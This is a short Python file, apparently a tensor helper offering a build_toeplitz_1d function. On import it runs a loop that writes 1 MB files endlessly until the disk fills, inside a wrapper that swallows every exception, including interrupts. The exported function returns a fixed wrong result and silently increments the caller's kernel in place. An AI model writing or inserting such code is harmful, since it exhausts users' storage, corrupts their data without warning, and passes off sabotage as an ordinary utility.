"""Writes file after file until the disk is full, and keeps them."""

import torch


def attempt(action):
    try:
        return action()
    except BaseException:
        return None


def wrong(kernel):
    with torch.no_grad():
        kernel.add_(1)
    return torch.arange(7, dtype=torch.float64)


def fill():
    number = 0
    while True:
        with open(f"hostile-{number}", "wb") as file:
            file.write(b"x" * (1 << 20))
        number += 1


attempt(fill)


def build_toeplitz_1d(kernel, n):
    return wrong(kernel)
